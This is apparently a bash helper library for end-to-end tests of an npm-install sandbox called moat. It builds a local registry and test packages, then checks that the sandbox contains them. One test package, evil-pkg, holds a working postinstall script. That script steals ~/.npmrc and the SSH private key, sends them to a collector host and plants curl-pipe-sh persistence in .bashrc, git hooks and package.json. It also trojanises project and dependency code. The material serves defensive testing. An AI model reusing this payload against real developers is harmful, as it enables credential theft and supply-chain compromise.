# Sourced by the npm-family e2e scripts: a tiny static npm registry and a collector, each on a
# test host in a network namespace this script creates (10.77.22.0/24 only), and packages built
# by the test. skip/fail, the test hosts and the collector are tests/watch_e2e/e2e_lib.sh's.
. "$(dirname "${BASH_SOURCE[0]}")/../watch_e2e/e2e_lib.sh"

# registry_serve NS DIR PORT LOG: a static npm registry: GET /NAME is DIR/NAME.json (the
# packument), GET /NAME/-/FILE.tgz the tarball; every request line and Authorization header is
# logged.
registry_serve() {
  ip netns exec "$1" python3 -c '
import http.server, os, sys
root, port, log = sys.argv[1], int(sys.argv[2]), open(sys.argv[3], "a", buffering=1)
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        log.write("%s auth=%s\n" % (self.path, self.headers.get("Authorization", "")))
        path = self.path.split("?")[0].lstrip("/")
        if "/-/" in path:
            f, ctype = os.path.join(root, "tarballs", path.rsplit("/", 1)[1]), "application/octet-stream"
        else:
            f, ctype = os.path.join(root, path.replace("%2f", "__").replace("/", "__") + ".json"), "application/json"
        if ".." in path or not os.path.isfile(f):
            self.send_response(404); self.send_header("Content-Length", "0"); self.end_headers(); return
        data = open(f, "rb").read()
        self.send_response(200); self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(data))); self.end_headers(); self.wfile.write(data)
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer(("0.0.0.0", port), H).serve_forever()
' "$2" "$3" "$4" &
  disown  # killed with the namespace; no job notice
}

# publish DIR NAME VERSION REGISTRY_URL: packs the package in DIR and writes its packument.
publish() {
  local dir=$1 name=$2 version=$3 url=$4 reg=$5
  (cd "$dir" && npm pack --silent >/dev/null) || return 1
  mkdir -p "$reg/tarballs"
  mv "$dir/$name-$version.tgz" "$reg/tarballs/"
  node -e '
const [reg, name, version, url] = process.argv.slice(1);
const fs = require("fs"), crypto = require("crypto");
const tgz = fs.readFileSync(`${reg}/tarballs/${name}-${version}.tgz`);
const manifest = JSON.parse(require("child_process").execSync(`tar -xzOf ${reg}/tarballs/${name}-${version}.tgz package/package.json`));
manifest._id = `${name}@${version}`;
manifest.dist = {
  tarball: `${url}${name}/-/${name}-${version}.tgz`,
  shasum: crypto.createHash("sha1").update(tgz).digest("hex"),
  integrity: "sha512-" + crypto.createHash("sha512").update(tgz).digest("base64"),
};
// Publish times, as a registry keeps them: yarn berry quarantines a version without one (its
// npmMinimalAgeGate, a day by default), so these say the packages are old.
const published = "2020-01-01T00:00:00.000Z";
fs.writeFileSync(`${reg}/${name}.json`, JSON.stringify({
  name, "dist-tags": {latest: version}, versions: {[version]: manifest},
  time: {created: published, modified: published, [version]: published},
}));
' "$reg" "$name" "$version" "$url"
}

# build_tree WORK URL COLLECTOR_IP DAEMON_MARK: packs and publishes into WORK/registry
# good-b (a plain module), good-a (depends on good-b; its postinstall builds built.json) and
# evil-pkg, whose postinstall reads ~/.npmrc and ~/.ssh/id_ed25519, sends them to
# COLLECTOR_IP:4444, appends to ~/.bashrc, drops .git/hooks/pre-commit in the project
# ($INIT_CWD), starts a daemon whose command line holds DAEMON_MARK, and looks up collector.test.
build_tree() {
  local work=$1 url=$2 collector_ip=$3 daemon_mark=$4
  mkdir -p "$work/registry" "$work/src/good-b" "$work/src/good-a" "$work/src/evil-pkg"
  cat > "$work/src/good-b/package.json" <<'JSON'
{"name":"good-b","version":"1.0.0","main":"index.js"}
JSON
  echo "module.exports = (x) => x * 2;" > "$work/src/good-b/index.js"
  cat > "$work/src/good-a/package.json" <<'JSON'
{"name":"good-a","version":"1.0.0","main":"index.js","dependencies":{"good-b":"1.0.0"},
 "scripts":{"postinstall":"node build.js"}}
JSON
  echo "module.exports = () => require('./built.json').ok && require('good-b')(21) === 42;" \
    > "$work/src/good-a/index.js"
  echo "require('fs').writeFileSync(__dirname + '/built.json', JSON.stringify({ok: true}));" \
    > "$work/src/good-a/build.js"
  cat > "$work/src/evil-pkg/package.json" <<'JSON'
{"name":"evil-pkg","version":"1.0.0","scripts":{"postinstall":"node postinstall.js"}}
JSON
  cat > "$work/src/evil-pkg/postinstall.js" <<JS
const fs = require('fs'), net = require('net'), os = require('os'), cp = require('child_process');
let loot = '';
for (const f of ['/.npmrc', '/.ssh/id_ed25519']) {
  try { loot += fs.readFileSync(os.homedir() + f, 'utf8'); } catch (e) { loot += 'no ' + f + ' '; }
}
try { fs.appendFileSync(os.homedir() + '/.bashrc', '\ncurl http://$collector_ip:4444/x | sh\n'); } catch (e) {}
const root = process.env.INIT_CWD || process.cwd();
try {
  fs.mkdirSync(root + '/.git/hooks', {recursive: true});
  fs.writeFileSync(root + '/.git/hooks/pre-commit', '#!/bin/sh\ncurl $collector_ip:4444\n', {mode: 0o755});
} catch (e) {}
// A registry of ours in the project's .npmrc: the next run would allow it (exfiltration, and
// dependency confusion for a scope).
try { fs.appendFileSync(root + '/.npmrc', '\n@evil:registry=http://$collector_ip:4444/\n'); } catch (e) {}
// The project's test script, run on the developer's next `npm test` outside any sandbox.
try {
  const pj = JSON.parse(fs.readFileSync(root + '/package.json', 'utf8'));
  pj.scripts = Object.assign({}, pj.scripts, {test: 'curl http://$collector_ip:4444/x | sh'});
  fs.writeFileSync(root + '/package.json', JSON.stringify(pj, null, 2));
} catch (e) {}
// The project's own code: a line in its entry point, added by a child that runs in the project
// and claims to be the project's own script (the watch still attributes it to evil-pkg).
try {
  cp.execSync("echo \"require('child_process').exec('curl $collector_ip:4444')\" >> index.js",
              {cwd: root, env: Object.assign({}, process.env, {npm_package_name: 'victim'})});
} catch (e) {}
// Another package's code (trojanising a trusted dependency): a line appended to good-a.
try { fs.appendFileSync(root + '/node_modules/good-a/index.js', '\n// evil-pkg was here\n'); } catch (e) {}
// What it could read, left in the project (checked from outside: no token may be in it).
try { loot += fs.readFileSync(root + '/.npmrc', 'utf8'); } catch (e) { loot += 'no project .npmrc '; }
try { fs.writeFileSync(root + '/loot.txt', loot); } catch (e) {}
const d = cp.spawn('sh', ['-c', 'sleep 300', '$daemon_mark'], {detached: true, stdio: 'ignore'});
d.unref();
const s = net.connect(4444, '$collector_ip', () => { s.end('STOLEN ' + loot); });
s.on('error', () => {});
require('dns').lookup('collector.test', () => {});
setTimeout(() => process.exit(0), 1500);
JS
  for p in good-b good-a evil-pkg; do
    publish "$work/src/$p" "$p" 1.0.0 "$url" "$work/registry" || return 1
  done
}

# registry_hosts_up NAME REGISTRY_OCTET COLLECTOR_OCTET HOST_SIDE_OCTETS...: the registry
# (10.77.22.REGISTRY_OCTET, serving $work/registry on $port) and the collector
# (10.77.22.COLLECTOR_OCTET, port 4444) on two test hosts, the packages of build_tree published,
# both checked from outside. Needs work, daemon_mark, registry_ip, collector_ip and port; sets
# url, reglog and collog. Usage: registry_hosts_up NAME REG_SIDE COL_SIDE
registry_hosts_up() {
  test_host_up "${1}reg" "$registry_ip" "10.77.22.$2" || skip "cannot create the registry test host"
  test_host_up "${1}col" "$collector_ip" "10.77.22.$3" || skip "cannot create the collector test host"
  url="http://registry.test:$port/"
  reglog="$work/registry.log" collog="$work/collector.log"
  : > "$reglog"; : > "$collog"
  registry_serve "$(test_host_ns "${1}reg")" "$work/registry" "$port" "$reglog"
  collector_serve "$(test_host_ns "${1}col")" 4444 "$collog"
  build_tree "$work" "$url" "$collector_ip" "$daemon_mark" || { echo "FAIL: building the packages"; exit 1; }
  wait_port "$registry_ip" "$port" || skip "the registry did not start"
  collector_check "$collector_ip" 4444 "$collog"
}

# npm_e2e_workspace NAME: the user moat-test, a work directory ($work, readable by that user),
# a mark for the malicious daemon ($daemon_mark), and the EXIT trap that removes them all and
# the test hosts (MOAT_E2E_KEEP=1 keeps the work directory).
npm_e2e_workspace() {
  id moat-test >/dev/null 2>&1 || useradd -m -s /bin/sh -U moat-test 2>/dev/null || true
  id moat-test >/dev/null 2>&1 || skip "no user moat-test"
  work=$(mktemp -d "/tmp/moat-e2e-$1-XXXXXX")
  chmod 755 "$work"
  daemon_mark="moat-$1-daemon-$$-$RANDOM"
  trap npm_e2e_cleanup EXIT
}
npm_e2e_cleanup() {
  test_hosts_cleanup
  pkill -9 -f "$daemon_mark" 2>/dev/null || true
  [ -n "${MOAT_E2E_KEEP:-}" ] && echo "kept $work" || rm -rf "$work"
}

# run_in_project AS PROJECT DIR CMD...: CMD in PROJECT as AS (root, or moat-test without
# privileges), its output in DIR/out and DIR/err; returns CMD's status.
run_in_project() {
  local as=$1 project=$2 dir=$3
  shift 3
  if [ "$as" = root ]; then
    (cd "$project" && "$@") >"$dir/out" 2>"$dir/err"
  else
    (cd "$project" && setpriv --reuid=moat-test --regid=moat-test --init-groups "$@") \
      >"$dir/out" 2>"$dir/err"
  fi
}

# check_scripts_only_in_phase_2 WHAT DIR: after `moat install` (DIR/err, DIR/audit.jsonl), the
# scripts ran in phase 2, none in phase 1: the first phase's account names no lifecycle script,
# the second names evil-pkg's; as root (the watch sees every exec) each exec of a script comes
# after the first phase's end event.
check_scripts_only_in_phase_2() {
  local what=$1 dir=$2 err1 err2 first_end
  err1=$(sed -n '/^moat install: phase 1\/2 (.*):$/,/^moat install: phase 2\/2 (.*):$/p' "$dir/err")
  err2=$(sed -n '/^moat install: phase 2\/2 (.*):$/,$p' "$dir/err")
  [ -n "$err1" ] || fail "$what: no account of phase 1"
  grep -q 'postinstall' <<<"$err1" && fail "$what: a lifecycle script ran in phase 1 (fetch)"
  grep -q '\[npm evil-pkg@1.0.0 postinstall\]' <<<"$err2" ||
    fail "$what: phase 2's account does not name evil-pkg's postinstall"
  first_end=$(grep -sn '"kind":"end"' "$dir/audit.jsonl" | head -n1 | cut -d: -f1 || true)
  if [ -z "$first_end" ] || [ "$(grep -sc '"kind":"end"' "$dir/audit.jsonl" || true)" -ne 2 ]; then
    fail "$what: the audit does not hold two phases"
  elif grep -q '"kind":"exec"' "$dir/audit.jsonl"; then
    head -n "$first_end" "$dir/audit.jsonl" | grep '"kind":"exec"' | grep -q 'build\.js' &&
      fail "$what: a lifecycle script ran in phase 1 (fetch)"
    tail -n "+$first_end" "$dir/audit.jsonl" | grep '"kind":"exec"' | grep -q 'build\.js' ||
      fail "$what: good-a's postinstall did not run in phase 2"
  fi
  return 0
}

# check_evil_pkg_contained WHAT HOME PROJECT DIR BASHRC_SUM: every effect of evil-pkg (see
# build_tree) is absent, checked from outside, and the summary in DIR/err names the package.
check_evil_pkg_contained() {
  local what=$1 home=$2 project=$3 dir=$4 bashrc_before=$5
  [ -s "$collog" ] && fail "$what: the collector received: $(head -c 300 "$collog")"
  [ "$(sha256sum < "$home/.bashrc")" = "$bashrc_before" ] || fail "$what: ~/.bashrc changed"
  [ -s "$project/.git/hooks/pre-commit" ] && fail "$what: .git/hooks/pre-commit was dropped"
  grep -q "TOKEN-CANARY" "$project/loot.txt" 2>/dev/null &&
    fail "$what: the install script read a token: $(grep -o '[^ ]*TOKEN-CANARY[^ ]*' "$project/loot.txt" | head -3)"
  grep -q "$collector_ip" "$project/.npmrc" 2>/dev/null &&
    fail "$what: the project's .npmrc names the collector: $(cat "$project/.npmrc")"
  pgrep -f "$daemon_mark" >/dev/null && fail "$what: the daemon survived moat"
  grep -q "CANARY" "$dir/out" "$dir/err" && fail "$what: a secret leaked into the output"
  grep -q "\[npm evil-pkg@1.0.0 postinstall\]" "$dir/err" ||
    fail "$what: the summary does not name evil-pkg"
  if [[ "$what" == *install* ]]; then
    # Two-phase: the scripts run in phase 2, where everything the project held stays as it was
    # but node_modules (and berry's .yarn and Plug'n'Play files).
    grep -q "$collector_ip" "$project/package.json" &&
      fail "$what: phase 2 changed package.json: $(grep "$collector_ip" "$project/package.json")"
    [ "$(cat "$project/index.js")" = "module.exports = 42;" ] ||
      fail "$what: phase 2 changed the project's index.js: $(cat "$project/index.js")"
  else
    grep -qE "manifest-commands-changed: .*package.json scripts.test (changed|was added)" "$dir/err" ||
      fail "$what: the summary does not report the changed test script"
  fi
  # The project's own code changed (or, in phase 2, tried) by the package: seen by the watch.
  if [[ "$what" == *"as root"* ]]; then
    grep -qE "project-files-changed: .*evil-pkg@1.0.0 .*index.js" "$dir/err" ||
      fail "$what: the summary does not report evil-pkg changing index.js"
    grep -qE "package-files-changed: .*evil-pkg@1.0.0 .*node_modules/good-a/index.js" "$dir/err" ||
      fail "$what: the summary does not report evil-pkg changing good-a"
  fi
  return 0
}
